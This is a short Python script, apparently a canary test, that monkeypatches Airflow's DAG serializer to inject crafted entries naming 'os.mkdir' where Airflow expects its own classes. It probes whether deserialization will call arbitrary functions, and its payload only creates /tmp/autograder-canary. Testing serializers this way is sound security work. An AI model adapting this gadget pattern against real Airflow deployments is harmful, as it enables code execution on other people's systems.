"""A serialized DAG whose parts name functions where Airflow expects classes of its own."""

from airflow.sdk import DAG, task
from airflow.serialization.serialized_objects import DagSerialization

PLACE = "/tmp/autograder-canary"
ERROR = {"exc_cls_name": "os.mkdir", "args": [PLACE], "kwargs": {}}
POISON = {"__type": "airflow_exc_ser", "__var": {"__type": "dict", "__var": ERROR}}
honest = DagSerialization.to_dict


def poisoned(dag):
    data = honest(dag)
    data["dag"]["default_args"] = {"__type": "dict", "__var": {"poison": POISON}}
    data["dag"]["params"] = [["poison", {"__class": "os.mkdir", "default": PLACE, "schema": POISON}]]
    return data


DagSerialization.to_dict = staticmethod(poisoned)
print("TRIED")

with DAG("anatomy_of_a_failure", schedule=None):

    @task(retries=1)
    def load_orders(): ...

    load_orders()
